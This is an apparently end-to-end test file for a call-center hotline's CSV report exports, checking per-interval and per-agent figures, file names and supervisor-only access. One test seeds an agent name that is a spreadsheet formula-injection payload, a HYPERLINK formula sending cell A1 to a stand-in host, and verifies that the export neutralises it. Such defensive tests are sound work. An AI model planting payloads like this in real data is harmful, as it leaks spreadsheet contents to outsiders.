import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "../../src/cases/agency-csv.js";
import { startCallCenter, type CallCenter } from "../support/call-center.js";
import { TEST_ADMIN_TOKEN } from "../support/hotline-fixture.js";
import { seedReportHistory, type ReportHistory } from "../support/report-history.js";

/*
 * The reports as CSV, over the seeded history of test/support/report-history.ts (every figure below is
 * worked out in test/e2e/reports.test.ts): the same figures as the JSON reports, flat, one writer.
 */

let cc: CallCenter;
let history: ReportHistory;
let supervisorToken: string;
beforeAll(async () => {
  cc = await startCallCenter();
  history = await seedReportHistory(cc);
  supervisorToken = (await cc.api("POST", "/api/users", { body: { name: "Pranee", role: "supervisor" } })).body.token;
});
afterAll(async () => {
  await cc?.stopAll();
});

const period = (from: string, to: string) => `from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`;
const TEN_TO_NOON = period("2026-11-24T10:00:00+07:00", "2026-11-24T12:00:00+07:00");

async function csv(path: string, token: string | null = TEST_ADMIN_TOKEN) {
  const res = await fetch(`${cc.baseUrl}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
  const text = await res.text();
  const [header, ...rows] = res.ok ? parseCsv(text).map((r) => r.cells) : [[]];
  return { res, text, header: header!, rows: rows.map((cells) => Object.fromEntries(header!.map((h, i) => [h, cells[i]]))) };
}

describe("GET /api/reports/intervals.csv", () => {
  it("gives one row per interval and group with every figure of the JSON report, abandonment and callbacks spread out", async () => {
    const { res, text, header, rows } = await csv(`/api/reports/intervals.csv?${TEN_TO_NOON}&by=hour&group=language`, supervisorToken);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="intervals-by-hour-language-2026-11-24-2026-11-24.csv"');
    expect(text.split("\r\n")[0]).toBe(
      "start,group,offered,answered,answeredInThreshold,serviceLevel,abandonedIvr,abandonedQueue,abandonedRinging,overflow,callbackRequests," +
        "averageSpeedOfAnswerSeconds,averageHandleSeconds,longestWaitSeconds,callbacksCreated,callbacksReached,callbacksOverdue",
    );
    expect(header).toHaveLength(17);
    expect(rows.map((r) => `${r.start!.slice(11, 16)} ${r.group}`)).toEqual(["10:00 my", "10:00 th", "10:00 ", "11:00 my", "11:00 th", "11:00 "]);
    // The Burmese 10:00 hour, as computed by hand in reports.test.ts.
    expect(rows[0]).toEqual({
      start: "2026-11-24T10:00:00+07:00",
      group: "my",
      offered: "6",
      answered: "2",
      answeredInThreshold: "1",
      serviceLevel: "0.25",
      abandonedIvr: "1",
      abandonedQueue: "1",
      abandonedRinging: "1",
      overflow: "0",
      callbackRequests: "1",
      averageSpeedOfAnswerSeconds: "37.5",
      averageHandleSeconds: "315",
      longestWaitSeconds: "120",
      callbacksCreated: "2",
      callbacksReached: "0",
      callbacksOverdue: "1",
    });
    // No one chosen and none answered: empty cells, not "null".
    expect(rows[2]).toMatchObject({ group: "", offered: "2", overflow: "1", serviceLevel: "", averageSpeedOfAnswerSeconds: "" });
    expect(rows[3]).toMatchObject({ group: "my", offered: "0", callbacksReached: "1" });
  });

  it("matches the JSON report cell for cell, by day and topic too", async () => {
    const query = `${period("2026-11-24T00:00:00+07:00", "2026-11-26T00:00:00+07:00")}&by=day&group=topic`;
    const json = (await cc.api("GET", `/api/reports/intervals?${query}`)).body.intervals;
    const { res, rows } = await csv(`/api/reports/intervals.csv?${query}`);
    expect(res.headers.get("content-disposition")).toContain('filename="intervals-by-day-topic-2026-11-24-2026-11-25.csv"');
    expect(rows).toHaveLength(json.length);
    rows.forEach((row, i) => {
      const r = json[i];
      expect(row).toMatchObject({ start: r.start, group: r.group ?? "", offered: String(r.offered), abandonedIvr: String(r.abandoned.ivr), callbacksOverdue: String(r.callbacks.overdue) });
    });
  });

  it("is for supervisors and admins: no token 401, an agent's 403; a bad period 400 with the reason", async () => {
    expect((await csv(`/api/reports/intervals.csv?${TEN_TO_NOON}`, null)).res.status).toBe(401);
    expect((await csv(`/api/reports/intervals.csv?${TEN_TO_NOON}`, history.agentToken)).res.status).toBe(403);
    const bad = await csv(`/api/reports/intervals.csv?${period("2026-01-01T00:00:00Z", "2026-06-01T00:00:00Z")}&by=hour`);
    expect(bad.res.status).toBe(400);
    expect(JSON.parse(bad.text)).toMatchObject({ error: "bad_request", message: expect.stringMatching(/at most 92 days/) });
    expect((await csv(`/api/reports/intervals.csv?${TEN_TO_NOON}&group=agent`)).res.status).toBe(400);
  });
});

describe("GET /api/reports/agents.csv", () => {
  it("gives each agent's figures, and a name that would start a formula is neutralised", async () => {
    await cc.addAgent('=HYPERLINK("http://x.example/?"&A1,"click")', ["km"], { available: false });
    const { res, text, header, rows } = await csv(`/api/reports/agents.csv?${period("2026-11-24T10:00:00+07:00", "2026-11-24T11:00:00+07:00")}`, supervisorToken);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="agents-2026-11-24-2026-11-24.csv"');
    expect(header).toEqual(["id", "name", "languages", "callsAnswered", "callbacksReached", "offersMissed", "talkSeconds", "wrapUpSeconds", "ringingSeconds", "availableSeconds", "breakSeconds", "occupancy"]);
    const aung = rows.find((r) => r.id === history.agentA);
    expect(aung).toEqual({ id: history.agentA, name: "Aung", languages: "my th", callsAnswered: "2", callbacksReached: "0", offersMissed: "0", talkSeconds: "540", wrapUpSeconds: "90", ringingSeconds: "20", availableSeconds: "2050", breakSeconds: "900", occupancy: "0.233" });
    expect(rows.find((r) => r.id === history.agentB)).toMatchObject({ callsAnswered: "1", offersMissed: "1", availableSeconds: "3412" });
    // Never signed in during the period: no occupancy, an empty cell.
    const hostile = rows.find((r) => r.name!.includes("HYPERLINK"));
    expect(hostile).toMatchObject({ name: `'=HYPERLINK("http://x.example/?"&A1,"click")`, occupancy: "" });
    expect(text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
    expect(text.split("\r\n").every((line) => !/^[=+\-@]|,[=+\-@]/.test(line))).toBe(true);
  });

  it("is for supervisors and admins", async () => {
    const q = `/api/reports/agents.csv?${period("2026-11-24T00:00:00Z", "2026-11-25T00:00:00Z")}`;
    expect((await csv(q, null)).res.status).toBe(401);
    expect((await csv(q, history.agentToken)).res.status).toBe(403);
    expect((await csv(`/api/reports/agents.csv?from=2026-11-24T00:00:00Z`)).res.status).toBe(400);
  });
});
